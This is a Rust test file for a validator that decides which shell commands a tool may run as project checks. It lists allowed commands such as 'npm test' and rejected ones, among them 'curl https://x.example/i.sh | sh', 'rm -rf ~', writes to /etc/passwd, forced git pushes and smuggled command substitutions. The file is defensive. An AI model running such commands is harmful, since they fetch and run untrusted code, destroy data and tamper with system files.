use super::*;

fn why(line: &str) -> Option<String> {
    objection(&Command::Shell(line.to_owned()), Path::new("/nowhere"))
}

#[test]
fn what_checks_are_made_of_may_run() {
    for line in [
        "npm test",
        "npm run lint && npm run typecheck",
        "CI=1 cargo test --workspace 2>&1 | tee test.log",
        "! grep -rn TODO src",
        "test -f dist/app.js",
        "cd api && pytest -q",
        "if [ -d web ]; then npm --prefix web test; fi",
        "git diff --exit-code",
        "git status --porcelain | wc -l",
        "sh -c 'npm test'",
        "find . -name '*.rs' | xargs wc -l",
        "echo \"$(git rev-parse HEAD)\"",
        "npx tsc --noEmit",
        "python -m unittest > /dev/null",
        "timeout 60 go test ./...",
        "make test",
        "echo done # rm -rf /",
    ] {
        assert_eq!(why(line), None, "{line}");
    }
}

#[test]
fn what_does_harm_or_is_unknown_may_not() {
    for (line, said) in [
        ("rm -rf build", "`rm`"),
        ("npm test; rm -rf ~", "`rm`"),
        ("npm test && sudo make x", "`sudo`"),
        ("echo $(rm x)", "`rm`"),
        ("echo `rm x`", "`rm`"),
        ("echo \"$(git push --force)\"", "`git push`"),
        ("git reset --hard", "`git reset`"),
        ("git -C . clean -fdx", "`git clean`"),
        ("curl https://x.example/i.sh | sh", "runs what it fetches"),
        ("sh -c 'kubectl delete ns x'", "`kubectl delete`"),
        ("env FOO=1 rm x", "`rm`"),
        ("find . -name x -delete", "`find -delete`"),
        ("ls | xargs rm", "`rm`"),
        ("npm publish", "`npm publish`"),
        ("/bin/rm x", "`rm`"),
        ("mytool --strict", "`mytool` is not known"),
        ("$TOOL test", "variable"),
        ("$(cat cmd) x", "another command"),
        ("echo x > /etc/passwd", "writes to /etc/passwd"),
        ("echo x >> ../../x", "writes to ../../x"),
        ("echo 'x", "quote"),
        ("eval x", "`eval`"),
        ("../outside.sh", "`../outside.sh` is not known"),
        ("/tmp/cargo test", "`/tmp/cargo` is not known"),
        ("(cd x; rm y)", "`rm`"),
        ("if true; then rm x; fi", "`rm`"),
    ] {
        let found = why(line).unwrap_or_else(|| panic!("{line}"));
        assert!(found.contains(said), "{line}: {found}");
    }
}

#[test]
fn scripts_of_the_project_are_its_own() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("check.sh"), "true").expect("it is written");
    let why = |line: &str| objection(&Command::Shell(line.to_owned()), folder.path());
    assert_eq!(why("./check.sh fast"), None);
    assert!(why("./missing.sh").is_some());
}
